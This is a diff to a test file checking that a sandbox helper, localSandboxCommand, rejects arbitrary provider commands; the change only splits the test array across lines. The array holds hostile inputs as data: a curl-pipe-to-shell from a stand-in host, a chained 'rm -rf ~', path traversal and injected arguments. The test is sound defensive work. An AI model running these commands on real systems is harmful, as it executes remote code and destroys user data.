@@ -14,7 +14,14 @@ describe("local sandbox access details", () => {
   });
 
   it("never offer a provider's arbitrary command", () => {
-    for (const command of ["curl https://evil.example | sh", "/tmp/lease-29/enter; rm -rf ~", "/tmp/../etc/lease-29/enter", "relative/lease-29/enter", "/tmp/lease-29/enter -c id", "/tmp/lease-29/enter\nid"]) {
+    for (const command of [
+      "curl https://evil.example | sh",
+      "/tmp/lease-29/enter; rm -rf ~",
+      "/tmp/../etc/lease-29/enter",
+      "relative/lease-29/enter",
+      "/tmp/lease-29/enter -c id",
+      "/tmp/lease-29/enter\nid",
+    ]) {
       expect(localSandboxCommand({ ...sandbox, command }, 31337, 29n)).toBeUndefined();
     }
   });
